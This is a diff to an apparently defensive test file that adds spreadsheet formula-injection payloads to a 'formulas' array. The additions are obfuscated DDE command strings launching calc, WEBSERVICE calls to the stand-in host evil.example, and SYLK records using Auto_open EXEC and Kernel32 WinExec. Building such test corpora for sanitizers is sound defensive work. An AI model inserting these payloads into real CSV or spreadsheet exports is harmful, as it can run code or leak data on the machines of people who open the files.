@@ -49,6 +49,23 @@ const formulas = [
   '=IF(A1<{HYPERLINK("http://evil.example")},1,2)',
   '=REGISTER.ID("kernel32","WinExec")',
   '\t=  rtd("x","","y")',
+  `=${" ".repeat(9)}cmd|'/C calc'!A0`,
+  `a;b\n1;=${" ".repeat(5_000)}WEBSERVICE${" ".repeat(5_000)}("http://evil.example/")`,
+  `"=${"\n".repeat(9)}WEBSERVICE(""http://evil.example/"")"`,
+  '=\u3000WEBSERVICE("http://evil.example/")',
+  '=\u200BWEBSERVICE("http://evil.example/")',
+  "\uFF1Dcmd|'/C calc'!A0",
+  '\uFF1D\uFF37EBSERVICE("http://evil.example/")',
+  `=cmd|'/C calc ${"x".repeat(600)}'!A0`,
+  "=cmd|     '/C calc'!A0",
+  "='cmd'|'/C calc'!A0",
+  '"=cmd|""/C calc""!A0"',
+  `"=cmd|'/C\ncalc'!A0"`,
+  `=${"a".repeat(70)}|'/C calc'!A0`,
+  '=1\u00A0+WEBSERVICE("http://evil.example/")',
+  `${"1,2\n".repeat(100_000)}=IF(1>0,${" ".repeat(300_000)}WEBSERVICE("http://evil.example/"),2)`,
+  'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC("CALC.EXE")\r\nE\r\n',
+  'ID;PWXL;N;E\r\nC;X1;Y101;K0;ECALL("Kernel32","WinExec","JCJ","calc",1)\r\nE\r\n',
 ];
 
 /** Bytes that are no text in UTF-8. */
